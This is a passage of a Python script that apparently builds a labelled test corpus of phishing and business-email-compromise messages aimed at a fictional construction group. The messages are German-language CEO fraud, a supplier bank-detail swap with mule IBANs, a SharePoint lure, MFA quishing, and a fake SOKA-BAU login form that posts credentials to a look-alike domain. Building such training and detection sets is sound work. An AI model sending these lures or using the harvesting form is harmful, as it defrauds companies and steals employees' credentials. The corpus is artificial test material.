    rdns = 'mail-%s%solkn%d.outbound.protection.outlook.com' % (node, region.split('-')[0].lower(), n)
    ip = '52.103.%d.%d' % (HN(seed + 'a', 32, 46), HN(seed + 'b', 2, 250))
    box = 'DB9P%dMB%d' % (HN(seed + 'c', 190, 199), HN(seed + 'd', 1000, 1999))
    t = plus(dt, 1, UTC)
    r = ['from %s.EURP%s.PROD.OUTLOOK.COM\n\t(2603:10a6:10:%x::%x) by %s-obe.outbound.protection.outlook.com\n'
         '\twith Microsoft SMTP Server (version=TLS1_2,\n\tcipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.9412.%d; %s' % (
             box, box[4:7], HN(seed + 'e', 256, 4095), HN(seed + 'f', 1, 255), region, HN(seed + 'h', 10, 30), fmt(t))]
    mid = '%s%s@%s.EURP%s.PROD.OUTLOOK.COM' % (box, H(seed + 'm', 24, UPHEX), box, box[4:7])
    return dict(helo=host, rdns=rdns, ip=ip, received=r, msgid=mid,
                tls='TLSv1.2', cipher='ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits)')


def m365_infra(seed, dt, rcpt, tenant_box):
    """Outbound from a Microsoft 365 tenant (business domain)."""
    region = ['EUR01-HE1', 'EUR02-AM0', 'EUR03-DBA', 'EUR05-VI1', 'EUR02-DB5'][HN(seed + 'r', 0, 4)]
    node = region.split('-')[1].lower()
    n = HN(seed + 'n', 2040, 2140)
    host = '%s-obe.outbound.protection.outlook.com' % region
    rdns = 'mail-%s%son%d.outbound.protection.outlook.com' % (node, region.split('-')[0].lower(), n)
    ip = '40.107.%d.%d' % (HN(seed + 'a', 1, 255), HN(seed + 'b', 2, 250))
    t = plus(dt, 1, UTC)
    r = ['from %s.eurprd0%d.prod.outlook.com\n\t(2603:10a6:20b:%x::%x) by %s.eurprd0%d.prod.outlook.com\n'
         '\t(2603:10a6:20b:%x::%x) with Microsoft SMTP Server (version=TLS1_2,\n'
         '\tcipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.9412.%d; %s' % (
             tenant_box, HN(seed + 'x', 1, 9), HN(seed + 'e', 256, 4095), HN(seed + 'f', 1, 255),
             tenant_box[:-1] + '2', HN(seed + 'x', 1, 9), HN(seed + 'g', 256, 4095), HN(seed + 'k', 1, 255),
             HN(seed + 'h', 10, 30), fmt(t))]
    mid = '%s%s@%s.eurprd0%d.prod.outlook.com' % (tenant_box, H(seed + 'm', 24, UPHEX), tenant_box, HN(seed + 'x', 1, 9))
    return dict(helo=host, rdns=rdns, ip=ip, received=r, msgid=mid,
                tls='TLSv1.2', cipher='ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits)')


def exch_mid(seed, domain):
    return '%s@%s' % (H(seed + 'xm', 32, HEX), domain)


def thread_index(seed):
    return base64.b64encode(hashlib.sha256(seed.encode()).digest()[:22]).decode()


import html as _htmlmod


def outlook_html(text, cs='utf-8', lang='DE'):
    body = ''.join('<p class="MsoNormal">%s<o:p></o:p></p>\n' % (_htmlmod.escape(l, quote=False) if l.strip() else '<o:p>&nbsp;</o:p>')
                   for l in text.split('\n'))
    return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
            'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
            'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=%s">\n'
            '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n<style><!--\n'
            '@font-face\n\t{font-family:"Cambria Math";\n\tpanose-1:2 4 5 3 5 4 6 3 2 4;}\n'
            '@font-face\n\t{font-family:Aptos;}\np.MsoNormal, li.MsoNormal, div.MsoNormal\n'
            '\t{margin:0cm;\n\tfont-size:11.0pt;\n\tfont-family:"Aptos",sans-serif;\n\tmso-ligatures:standardcontextual;\n\tmso-fareast-language:EN-US;}\n'
            '.MsoChpDefault\n\t{mso-style-type:export-only;}\n@page WordSection1\n\t{size:612.0pt 792.0pt;\n\tmargin:70.85pt 70.85pt 2.0cm 70.85pt;}\n'
            'div.WordSection1\n\t{page:WordSection1;}\n--></style>\n</head>\n'
            '<body lang="%s" link="#467886" vlink="#96607D" style="word-wrap:break-word">\n<div class="WordSection1">\n%s</div>\n</body>\n</html>\n'
            % (cs, lang, body))


def gmail_html(text):
    out = []
    for l in text.split('\n'):
        out.append('<div>%s</div>' % (_htmlmod.escape(l, quote=False) if l.strip() else '<br>'))
    return '<div dir="ltr">' + ''.join(out) + '</div>\n'


def plain_html(text, font='Arial, sans-serif', size='10pt', cs='utf-8'):
    paras = text.split('\n\n')
    inner = ''.join('<p>%s</p>\n' % _htmlmod.escape(p, quote=False).replace('\n', '<br>\n') for p in paras)
    return ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=%s"></head>\n'
            '<body style="font-family:%s;font-size:%s">\n%s</body></html>\n' % (cs, font, size, inner))


def _html_esc(s):
    return _htmlmod.escape(s, quote=False)

# ===========================================================================
# company, staff, correspondents, bank details
# ===========================================================================
STAFF = [
    # key, full name, address, role, office
    ('brenner', 'Dr. Markus Brenner', 'markus.brenner@example.com', 'Chief Executive Officer', 'HQ Frankfurt am Main (DE)'),
    ('vogel', 'Katrin Vogel', 'katrin.vogel@example.com', 'Chief Financial Officer', 'HQ Frankfurt am Main (DE)'),
    ('hoffmann', 'Sabine Hoffmann', 'sabine.hoffmann@example.com', 'Head of Accounts Payable (Kreditorenbuchhaltung)', 'HQ Frankfurt am Main (DE)'),
    ('keller', 'Jonas Keller', 'jonas.keller@example.com', 'Accounts Payable clerk', 'HQ Frankfurt am Main (DE)'),
    ('neumann', 'Claudia Neumann', 'claudia.neumann@example.com', 'Head of HR / payroll', 'HQ Frankfurt am Main (DE)'),
    ('wagner', 'Tobias Wagner', 'tobias.wagner@example.com', 'Head of IT', 'HQ Frankfurt am Main (DE)'),
    ('schuster', 'Felix Schuster', 'felix.schuster@examplegroup.eu', 'IT administrator (M365, Jira)', 'HQ Frankfurt am Main (DE)'),
    ('roth', 'Andreas Roth', 'andreas.roth@example.com', 'Head of Sales / Acquisition', 'HQ Frankfurt am Main (DE)'),
    ('schmitt', 'Monika Schmitt', 'monika.schmitt@example.com', 'Office manager HQ, assistant to the CEO', 'HQ Frankfurt am Main (DE)'),
    ('berger', 'Lukas Berger', 'lukas.berger@example.com', 'Site manager (Bauleiter), Mannheim Quartier N4', 'Site office Mannheim (DE)'),
    ('kraemer', 'Julia Krämer', 'julia.kraemer@example.com', 'Purchasing (Einkauf)', 'HQ Frankfurt am Main (DE)'),
    ('ricci', 'Alessandro Ricci', 'alessandro.ricci@examplegroup.eu', 'Country manager Italy', 'Milano (IT)'),
    ('romano', 'Giulia Romano', 'giulia.romano@example.com', 'Office manager Italy', 'Milano (IT)'),
    ('bianchi', 'Marco Bianchi', 'marco.bianchi@example.com', 'Accounting Italy (contabilità)', 'Milano (IT)'),
    ('lewandowski', 'Krzysztof Lewandowski', 'krzysztof.lewandowski@example.com', 'Country manager Poland', 'Warszawa (PL)'),
    ('kowalska', 'Anna Kowalska', 'anna.kowalska@example.com', 'Office manager Poland', 'Warszawa (PL)'),
    ('nowak', 'Piotr Nowak', 'piotr.nowak@example.com', 'Accounting Poland (księgowość)', 'Warszawa (PL)'),
    ('wisniewska', 'Marta Wiśniewska', 'marta.wisniewska@example.com', 'HR Poland', 'Warszawa (PL)'),
    ('ruiz', 'Carlos Ruiz', 'carlos.ruiz@example.com', 'Country director Spain', 'Madrid (ES)'),
    ('fernandez', 'Lucía Fernández', 'lucia.fernandez@example.com', 'Office manager Spain', 'Madrid (ES)'),
    ('moreno', 'Javier Moreno', 'javier.moreno@example.com', 'Accounting Spain (contabilidad)', 'Madrid (ES)'),
    ('dimitriou', 'Konstantinos Dimitriou', 'konstantinos.dimitriou@examplegroup.eu', 'Country manager Greece', 'Athens (GR)'),
    ('papadopoulou', 'Eleni Papadopoulou', 'eleni.papadopoulou@example.com', 'Office manager Greece', 'Athens (GR)'),
    ('georgiou', 'Nikos Georgiou', 'nikos.georgiou@example.com', 'Accounting Greece (λογιστήριο)', 'Athens (GR)'),
    ('whitfield', 'James Whitfield', 'james.whitfield@example.com', 'Managing Director UK', 'Manchester (UK)'),
    ('collins', 'Sarah Collins', 'sarah.collins@example.com', 'Office & accounts manager UK', 'Manchester (UK)'),
    ('sokolov', 'Aleksey Sokolov', 'aleksey.sokolov@example.com', 'General director Russia (генеральный директор)', 'Moskva (RU)'),
    ('smirnova', 'Olga Smirnova', 'olga.smirnova@example.com', 'Office manager Russia', 'Moskva (RU)'),
    ('volkov', 'Dmitry Volkov', 'dmitry.volkov@example.com', 'Accounting Russia (бухгалтерия)', 'Moskva (RU)'),
]
S = {k: (n.replace('Dr. ', ''), a) for k, n, a, r, o in STAFF}


def ST(*keys):
    return [S[k] for k in keys]


# VAT / registration numbers of the group entities (with valid check digits)
EG_USTID = de_ustid('28419673')
EG_PIVA = it_piva('1088420096')
EG_NIP = pl_nip('525284113')
EG_CIF = es_cif('B', '8847215')
EG_AFM = gr_afm('80142953')
EG_INN = ru_inn10('770391547')

# --- bank accounts ---------------------------------------------------------
# genuine
LIEF_IBAN_OLD = iban_de('54550010', '193847260')        # Sparkasse Vorderpfalz
LIEF_IBAN_NEW = iban_de('54570094', '071553820')        # Deutsche Bank Ludwigshafen
HANSEN_IBAN = iban_de('67090000', '402286110')          # VR Bank Rhein-Neckar
FERR_IBAN = iban_it('03069', '11166', '100000047113')   # Intesa Sanpaolo
PL_IBAN_OLD = iban_pl('1020402', '0000190212345678')    # PKO BP
PL_IBAN_NEW = iban_pl('1090136', '2000000154872231')    # Santander Bank Polska
HORM_IBAN = iban_es('2100', '4512', '0200123456')       # CaixaBank
AIG_IBAN = iban('GR', '017' + '0182' + '0000182001234567')  # Piraeus
HARROW_IBAN = iban('GB', 'BARC' + '205541' + '63829174')    # Barclays
SK_BIK, SK_KS = '044525225', '30101810400000000225'        # Sberbank Moskva
SK_RS = ru_account(SK_BIK, '4070281038040018842')
SK_INN = ru_inn10('772145830')
VEKTOR_INN = ru_inn10('773012984')
# fraudulent
ATK_LIEF_IBAN = iban_de('54540033', '366018427')        # Commerzbank (mule)
ATK_PAYROLL_IBAN = iban_de('10011001', '262907315')     # N26 (mule)
ATK_FERR_IBAN = iban_it('05034', '11101', '000000983211')  # Banco BPM (mule)
ATK_ESCROW_IBAN = iban_it('03268', '22300', '052877641920')  # Banca Sella
ATK_PL_IBAN = iban_pl('1140200', '0000320219876543')    # mBank
ATK_ES_CEO_IBAN = iban_es('0128', '9410', '0100067459')  # Bankinter
ATK_HORM_IBAN = iban_es('0182', '5910', '0201587436')   # BBVA
ATK_AIG_IBAN = iban('GR', '026' + '0195' + '0000410201987654')  # Eurobank
ATK_HARROW_IBAN = iban('GB', 'MYMB' + '230580' + '41728390')    # Metro Bank
ATK_SK_BIK, ATK_SK_KS = '044525593', '30101810200000000593'    # Alfa-Bank
ATK_SK_RS = ru_account(ATK_SK_BIK, '4070281050104187736')
ATK_SK_INN = SK_INN
# crypto
BTC_BECH32 = segwit_addr('bc', 0, h160('audit40/extortion-de'))
BTC_LEGACY = b58check(0x00, h160('audit40/extortion-el'))

for _ib in [LIEF_IBAN_OLD, LIEF_IBAN_NEW, HANSEN_IBAN, FERR_IBAN, PL_IBAN_OLD, PL_IBAN_NEW, HORM_IBAN, AIG_IBAN,
            HARROW_IBAN, ATK_LIEF_IBAN, ATK_PAYROLL_IBAN, ATK_FERR_IBAN, ATK_ESCROW_IBAN, ATK_PL_IBAN,
            ATK_ES_CEO_IBAN, ATK_HORM_IBAN, ATK_AIG_IBAN, ATK_HARROW_IBAN]:
    assert iban_ok(_ib), _ib
assert ru_corr_ok(SK_BIK, SK_KS) and ru_corr_ok(ATK_SK_BIK, ATK_SK_KS)
assert segwit_ok(BTC_BECH32) and b58check_ok(BTC_LEGACY)

CORRESPONDENTS = [
    ('Lieferant GmbH (building materials, Ludwigshafen, DE)', 'Stefan Maier <s.maier@lieferant-gmbh.de>; Buchhaltung <rechnungen@lieferant-gmbh.de>',
     'genuine supplier; old account %s (Sparkasse Vorderpfalz), announced new account %s (Deutsche Bank) from 01.01.2027' % (iban_fmt(LIEF_IBAN_OLD), iban_fmt(LIEF_IBAN_NEW))),
    ('Ferretti Trasporti S.p.A. (haulage, Bergamo, IT)', 'Chiara Colombo <c.colombo@ferretti-trasporti.it>; <amministrazione@ferretti-trasporti.it>',
     'genuine supplier; account %s (Intesa Sanpaolo)' % iban_fmt(FERR_IBAN)),
    ('Partner Logistik sp. z o.o. (logistics / crane transport, Poznań, PL)', 'Tadeusz Zieliński <t.zielinski@partner-logistik.pl>; <ksiegowosc@partner-logistik.pl>',
     'genuine supplier; old account %s (PKO BP), new account %s (Santander) from 01.01.2027' % (iban_fmt(PL_IBAN_OLD), iban_fmt(PL_IBAN_NEW))),
    ('Elektro Hansen GmbH (electrical subcontractor, Mannheim, DE)', '<buchhaltung@elektro-hansen.de>', 'genuine subcontractor; %s' % iban_fmt(HANSEN_IBAN)),
    ('Harrow Scaffolding Ltd (Manchester, UK)', 'Mark Davies <mark.davies@harrowscaffolding.co.uk>; <accounts@harrowscaffolding.co.uk>',
     'genuine subcontractor; Barclays %s (mailbox of Mark Davies is compromised in attack 15)' % iban_fmt(HARROW_IBAN)),
    ('Hormigones del Tajo S.L. (ready-mix concrete, Toledo, ES)', 'Raúl Ortega <r.ortega@hormigones-tajo.es>; <administracion@hormigones-tajo.es>',
     'genuine supplier; CaixaBank %s' % iban_fmt(HORM_IBAN)),
    ('ΑΙΓΑΙΟ ΜΕΤΑΛΛΙΚΕΣ ΚΑΤΑΣΚΕΥΕΣ Α.Ε. / Aigaio Metal (steelwork, Aspropyrgos, GR)', 'Γιώργος Αντωνίου <g.antoniou@aigaio-metal.gr>; <logistirio@aigaio-metal.gr>',
     'genuine supplier; Piraeus Bank %s' % iban_fmt(AIG_IBAN)),
    ('ООО "СтройКомплект" (building materials, Moskva, RU)', 'Елена Морозова <e.morozova@stroykomplekt.ru>; <buh@stroykomplekt.ru>',
     'genuine supplier; INN %s, Sberbank BIK %s, r/s %s' % (SK_INN, SK_BIK, SK_RS)),
    ('Rheinpark Immobilien GmbH (client, Köln, DE)', 'Dr. Henrik Lange <h.lange@rheinpark-immobilien.de>', 'customer'),
    ('Northgate Retail Properties Ltd (client, UK)', 'Rachel Hughes <rachel.hughes@northgate-rp.co.uk>', 'customer'),
    ('Immobiliare Navigli S.r.l. (client, Milano, IT)', 'Ing. Paolo Galli <p.galli@immobiliarenavigli.it>', 'customer'),
    ('Promociones Castellana S.A. (client, Madrid, ES)', 'Marta Gil <mgil@promocionescastellana.es>', 'customer'),
    ('Σαρωνικός Ξενοδοχειακή Α.Ε. (client, Vouliagmeni, GR)', 'Μαρία Κωνσταντίνου <m.konstantinou@saronikos-hotels.gr>', 'customer'),
    ('ООО "Вектор Девелопмент" (client, Moskva, RU)', 'Игорь Павлов <i.pavlov@vector-dev.ru>', 'customer; INN %s' % VEKTOR_INN),
]

# ===========================================================================
# ATTACK messages
# ===========================================================================

# --- 01 de: CEO fraud from look-alike domain via M365 trial tenant ---------
_s = 'attack/01'
_d = D('11-10 08:47:13')
M(dir='attack', file='01-de-ceo-fraud-vertrauliche-akquisition', lang='de', charset='UTF-8 (QP)',
  desc='CEO fraud: "Markus Brenner" asks CFO to prepare a confidential escrow payment for an acquisition; a "lawyer" will follow up.',
  why='Look-alike domain examplegroup-eu.com (real: example.com / examplegroup.eu) on a Microsoft 365 tenant, secrecy + urgency + "reply only by mail", iPhone signature; no link, no attachment, no payment details yet (first stage).',
  infra=m365_infra(_s, _d, 'katrin.vogel@example.com', 'PA4P190MB1288'),
  mailfrom='markus.brenner@examplegroup-eu.com', rcpt='katrin.vogel@example.com', date=_d,
  frm=('Markus Brenner', 'markus.brenner@examplegroup-eu.com'), to=ST('vogel'),
  subject='Vertraulich – Projekt Adler',
  extra=[('X-Mailer', 'iPhone Mail (22B91)'), ('Content-Language', 'de-DE')],
  body=T('''Hallo Katrin,

bist Du heute Vormittag im Büro erreichbar? Ich brauche Deine Unterstützung in einer vertraulichen Angelegenheit.

Wie Du weißt, prüfen wir seit einigen Wochen die Übernahme eines Hochbauunternehmens in Norditalien. Der Aufsichtsrat hat gestern Abend grünes Licht gegeben, das Signing ist für Freitag angesetzt. Bis zur offiziellen Mitteilung darf intern niemand davon wissen – bitte sprich auch nicht mit Sabine oder dem Team in Mailand darüber.

Für die Exklusivitätsvereinbarung ist heute noch eine Anzahlung auf ein Treuhandkonto der begleitenden Kanzlei fällig. Dr. Weiland von der Kanzlei wird sich im Laufe des Vormittags direkt bei Dir melden und Dir die Details schicken. Bitte behandle seine Anweisungen so, als kämen sie von mir.

Ich sitze den ganzen Tag in Verhandlungen und kann nicht telefonieren, antworte mir bitte nur per Mail.

Danke Dir und viele Grüße
Markus

Von meinem iPhone gesendet
''', cs='utf-8', quote_cs=False))

# --- 02 de: supplier bank-detail change from look-alike domain -------------
_s = 'attack/02'
_d = D('11-12 10:21:44')
M(dir='attack', file='02-de-lieferant-bankverbindung-lookalike', lang='de', charset='ISO-8859-15 (QP)',
  desc='Supplier bank-detail change: "Stefan Maier, Lieferant GmbH" announces a new Commerzbank account and asks to pay two open invoices (48.912,37 EUR) there; PDF "letter" attached.',
  why='Sender domain lieferant-gmbh.com is a look-alike of the genuine lieferant-gmbh.de, sent from a VPS; reply-to on the same fake domain; asks for confirmation by e-mail only and payment of already-due invoices to the new IBAN %s (valid mod-97, mule account).' % iban_fmt(ATK_LIEF_IBAN),
  mailfrom='s.maier@lieferant-gmbh.com', rcpt='sabine.hoffmann@example.com', date=_d,
  helo='mail.lieferant-gmbh.com', rdns='mail.lieferant-gmbh.com', ip='45.147.230.88',
  received=['from DESKTOP-7QK2L4M (unknown [102.89.47.12])\n\tby mail.lieferant-gmbh.com (Postfix) with ESMTPSA id 6B2A41E0F3C\n\tfor <sabine.hoffmann@example.com>; %s' % fmt(plus(_d, 2))],
  frm=('Stefan Maier', 's.maier@lieferant-gmbh.com'), to=ST('hoffmann'),
  reply_to=('Lieferant GmbH Buchhaltung', 'rechnungen@lieferant-gmbh.com'),
  subject='Änderung unserer Bankverbindung – Lieferant GmbH'.replace('–', '-'),
  msgid='000001dc5383$6b1f2e10$415d8a30$@lieferant-gmbh.com', hcs='iso-8859-15',
  extra=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Thread-Index', 'AdxTg2sOI3bq1wXySxi0J1uGk0E0hQ=='), ('Content-Language', 'de')],
  body=MP('mixed', [
      T('''Sehr geehrte Frau Hoffmann,

im Zuge der Zusammenführung unserer Finanzbuchhaltung mit der Unternehmensgruppe stellen wir zum 01.12.2026 unseren Zahlungsverkehr auf eine neue Hausbank um. Unsere bisherige Verbindung bei der Sparkasse Vorderpfalz wird zum Jahresende geschlossen.

Bitte hinterlegen Sie für alle offenen und künftigen Rechnungen ab sofort folgende Bankverbindung:

Kontoinhaber: Lieferant GmbH
Bank:         Commerzbank AG
IBAN:         %s
BIC:          COBADEFFXXX

Das offizielle Schreiben unserer Geschäftsführung finden Sie im Anhang. Zahlungen auf die alte Verbindung können ab dem 01.12. nicht mehr zugeordnet werden und würden zurückgebucht.

Die Rechnungen RE-2026-10311 und RE-2026-10398 (zusammen 48.912,37 €) sind am 20.11. fällig – wir wären Ihnen dankbar, wenn Sie diese bereits auf das neue Konto anweisen könnten. Eine kurze Bestätigung der Umstellung per E-Mail genügt uns.

Mit freundlichen Grüßen

Stefan Maier
Key Account Management

Lieferant GmbH
Industriestraße 14 · 67063 Ludwigshafen am Rhein
Tel. +49 621 5290-214
www.lieferant-gmbh.de
'''.replace('–', '-') % iban_fmt(ATK_LIEF_IBAN), cs='iso-8859-15'),
      ATT(pdf_doc(['#Lieferant GmbH', 'Industriestrasse 14, 67063 Ludwigshafen am Rhein', '',
                   'Example Group - Kreditorenbuchhaltung', '', '#Mitteilung ueber die Aenderung unserer Bankverbindung', '',
                   'Sehr geehrte Damen und Herren,', 'ab dem 01.12.2026 bitten wir Zahlungen ausschliesslich auf folgendes Konto zu leisten:',
                   '', 'Kontoinhaber: Lieferant GmbH', 'Commerzbank AG', 'IBAN: ' + iban_fmt(ATK_LIEF_IBAN), 'BIC: COBADEFFXXX', '',
                   'Mit freundlichen Gruessen', 'Geschaeftsfuehrung'], 'Bankverbindung'),
          'application/pdf', 'Lieferant_GmbH_Bankverbindung_2026.pdf'),
  ], _s, 'outlook'))

# --- 03 de: SharePoint share from compromised subcontractor tenant ---------
_s = 'attack/03'
_d = D('11-13 14:02:31')
_url = 'https://trockenbauyilmaz-my.sharepoint.com/:o:/g/personal/m_yilmaz_trockenbau-yilmaz_de/EQm3xKp7VdZOr2n8k4TqYw0BdL1aJ9c2WbT3gR5xHf6vKQ?e=Xk29Pz'
_txt = '''Mehmet Yilmaz hat ein Dokument für Sie freigegeben.

"Hallo Herr Berger, anbei wie besprochen der Nachtrag zu den zusätzlichen Vorsatzschalen im 3. OG mit Aufmaß und Regieberichten KW 45. Bitte bis Freitag prüfen und freigeben, sonst können wir die Kolonne nächste Woche nicht einplanen. Gruß M. Yilmaz"

NT-07 Nachtrag Vorsatzschalen 3.OG – BV Mannheim Quartier N4.one
%s

Dieser Link funktioniert nur für die direkten Empfänger dieser Nachricht.

Datenschutzbestimmungen: https://go.microsoft.com/fwlink/?LinkId=521839
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
''' % _url
_html = '''<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body><div style="font-family:'Segoe UI',Tahoma,sans-serif;max-width:640px;margin:0 auto;color:#242424">
<table role="presentation" width="100%%" cellpadding="0" cellspacing="0"><tr><td style="padding:24px 0 8px 0;font-size:24px;font-weight:600">Mehmet Yilmaz hat ein Dokument für Sie freigegeben.</td></tr>
<tr><td style="padding:12px 16px;background:#f5f5f5;font-size:14px;line-height:20px">&bdquo;Hallo Herr Berger, anbei wie besprochen der Nachtrag zu den zusätzlichen Vorsatzschalen im 3. OG mit Aufmaß und Regieberichten KW&nbsp;45. Bitte bis Freitag prüfen und freigeben, sonst können wir die Kolonne nächste Woche nicht einplanen. Gruß M.&nbsp;Yilmaz&ldquo;</td></tr>
<tr><td style="padding:20px 0"><table role="presentation"><tr><td style="padding-right:12px"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240610.001/assets/item-types/48/onetoc.png" width="32" height="32" alt=""></td>
<td style="font-size:15px;font-weight:600">NT-07 Nachtrag Vorsatzschalen 3.OG – BV Mannheim Quartier N4</td></tr></table></td></tr>
<tr><td><a href="%s" style="display:inline-block;background:#0f6cbd;color:#ffffff;text-decoration:none;padding:8px 20px;border-radius:4px;font-size:14px;font-weight:600">Öffnen</a></td></tr>
<tr><td style="padding-top:24px;font-size:12px;color:#616161">Dieser Link funktioniert nur für die direkten Empfänger dieser Nachricht.</td></tr>
<tr><td style="padding-top:32px;font-size:11px;color:#616161"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240610.001/assets/brand-icons/product/png/microsoft_logo_24x1.png" width="94" alt="Microsoft"><br>
<a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#616161">Datenschutzbestimmungen</a><br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr></table></div></body></html>
''' % _url
M(dir='attack', file='03-de-sharepoint-freigabe-kompromittierter-nachunternehmer', lang='de', charset='UTF-8 (QP / base64)',
  desc='OneDrive/SharePoint "shared with you" notification from a real drywall subcontractor (Trockenbau Yilmaz) about a change-order (Nachtrag) for the Mannheim site; link to a OneNote file on the sub\'s genuine SharePoint that leads to an AiTM login page.',
  why='Account-takeover of a genuine subcontractor M365 tenant: sender domain, SPF path and link host (sharepoint.com) are all legitimate; the OneNote "document" only contains a link to the credential-harvesting proxy. Plausible trade context (Nachtrag, Aufmaß, Regieberichte, KW 45).',
  infra=m365_infra(_s, _d, 'lukas.berger@example.com', 'AM9PR08MB6834'),
  mailfrom='m.yilmaz@trockenbau-yilmaz.de', rcpt='lukas.berger@example.com', date=_d,
  frm=('Mehmet Yilmaz', 'm.yilmaz@trockenbau-yilmaz.de'), to=ST('berger'),
  subject='Mehmet Yilmaz hat "NT-07 Nachtrag Vorsatzschalen 3.OG – BV Mannheim Quartier N4" für Sie freigegeben',
  extra=[('X-MS-Has-Attach', ''), ('X-MS-TNEF-Correlator', ''), ('Content-Language', 'de-DE')],
  body=MP('alternative', [T(_txt, cs='utf-8'), T(_html, 'html', cs='utf-8', cte='base64')], _s, 'outlook'))

# --- 04 de: quishing - MFA re-registration with inline QR (SES) -------------
_s = 'attack/04'
_d = D('11-16 07:58:02', UTC).astimezone(UTC)
_qr = 'https://eg-itservice.de/mfa/?u=bW9uaWthLnNjaG1pdHRAZXhhbXBsZS5jb20&ref=EG-MFA-2026-4471'
_cid = 'qr_EG4471.' + H(_s + 'cid', 10) + '@eg-itservice.de'
_html = '''<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;background:#f2f2f2">
<table role="presentation" width="100%%" style="background:#f2f2f2"><tr><td align="center" style="padding:24px">
<table role="presentation" width="600" style="background:#ffffff;font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#323130">
<tr><td style="background:#00285a;color:#ffffff;padding:16px 24px;font-size:16px">Example Group &middot; IT-Service</td></tr>
<tr><td style="padding:24px">
<p>Sehr geehrte Frau Schmitt,</p>
<p>im Rahmen der konzernweiten Umstellung auf die neuen Microsoft-Authentifizierungsrichtlinien (Entra ID) wird die Mehrstufige Authentifizierung (MFA) für alle Postfächer neu registriert. Ihr Konto <b>monika.schmitt@example.com</b> wurde noch nicht umgestellt.</p>
<p>Bitte scannen Sie den folgenden Code mit der Kamera Ihres Smartphones und folgen Sie den Anweisungen. Der Vorgang dauert etwa zwei Minuten.</p>
<p style="text-align:center"><img src="cid:%s" width="198" height="198" alt="QR-Code"></p>
<p>Konten, die bis zum <b>20.11.2026</b> nicht umgestellt wurden, werden aus Sicherheitsgründen vorübergehend gesperrt, bis die Registrierung nachgeholt ist.</p>
<p>Referenz: EG-MFA-2026-4471</p>
<p>Mit freundlichen Grüßen<br>Ihr IT-Service</p>
</td></tr>
<tr><td style="padding:12px 24px;font-size:11px;color:#8a8886;border-top:1px solid #edebe9">Diese Nachricht wurde automatisch versendet. Bei Fragen erreichen Sie den IT-Service intern unter der Durchwahl -444.</td></tr>
</table></td></tr></table></body></html>
''' % _cid
M(dir='attack', file='04-de-qr-mfa-neuregistrierung', lang='de', charset='UTF-8 (QP), HTML-only + inline PNG',
  desc='Quishing: "IT-Service" demands MFA re-registration before 20.11.; the only call to action is an inline QR code (PNG) pointing to %s.' % _qr,
  why='Link hidden in an image (QR) so URL scanners see none; sender domain eg-itservice.de is not the company domain, sent through Amazon SES; deadline + lockout threat; encoded recipient address in the QR URL.',
  mailfrom='010701936b2a4c1f-5d3e7a11-0c4e-4c8e-9a51-2f1d64e0b7c3-000000@eu-central-1.amazonses.com',
  rcpt='monika.schmitt@example.com', date=_d,
  helo='e226-55.smtp-out.eu-central-1.amazonses.com', rdns='e226-55.smtp-out.eu-central-1.amazonses.com', ip='69.169.226.55',
  frm=('Example Group IT-Service', 'service@eg-itservice.de'), to=ST('schmitt'),
  subject='Handlungsbedarf: Neuregistrierung Ihrer Mehrstufigen Authentifizierung bis 20.11.2026',
  msgid='010701936b2a4c1f-5d3e7a11-0c4e-4c8e-9a51-2f1d64e0b7c3-000000@eu-central-1.amazonses.com',
  extra=[('Feedback-ID', '::1.eu-central-1.Vq0jQm3bK7s1Yk2oZ1rQeQm+Ld3fWb7m7nV0sO8wZ0E=:AmazonSES'),
         ('X-SES-Outgoing', '2026.11.16-69.169.226.55')],
  body=MP('related', [T(_html, 'html', cs='UTF-8', quote_cs=False),
                      ATT(qr_png(_qr), 'image/png', 'image001.png', inline=True, cid=_cid)], _s, 'bulk',
          extra=';\n\ttype="text/html"'))
QR_PAYLOADS = {'04-de-qr-mfa-neuregistrierung': _qr}

# --- 05 de: fake SOKA-BAU, HTML attachment with login form ------------------
_s = 'attack/05'
_d = D('11-17 06:12:40')
_att = '''<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>SOKA-BAU | Arbeitgeberportal</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<style>
body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#eef1f4;color:#1d2b36}
.top{background:#ffffff;border-bottom:4px solid #e2001a;padding:14px 28px;font-weight:bold;font-size:20px}
.top span{color:#e2001a}
.box{max-width:420px;margin:48px auto;background:#fff;padding:28px 32px;box-shadow:0 1px 4px rgba(0,0,0,.15)}
label{display:block;font-size:13px;margin:14px 0 4px}
input{width:100%;padding:9px;border:1px solid #9aa7b1;box-sizing:border-box}
button{margin-top:20px;width:100%;padding:11px;background:#e2001a;color:#fff;border:0;font-weight:bold}
.small{font-size:11px;color:#5b6b77;margin-top:18px}
</style></head>
<body>
<div class="top"><span>SOKA</span>-BAU &nbsp;|&nbsp; Arbeitgeberportal</div>
<div class="box">
<h3>Dokument: Beitragsdifferenz Meldemonat 10/2026</h3>
<p style="font-size:13px">Zum Schutz Ihrer Daten ist das Dokument nur nach Anmeldung mit Ihren Zugangsdaten zum Arbeitgeberportal einsehbar.</p>
<form method="post" action="https://meinportal-sokabau.de/ag/session/login.php">
<label>Betriebskonto-Nr.</label><input name="bk" value="4715 2093">
<label>E-Mail-Adresse</label><input name="user" value="claudia.neumann@example.com">
<label>Passwort</label><input name="pass" type="password">
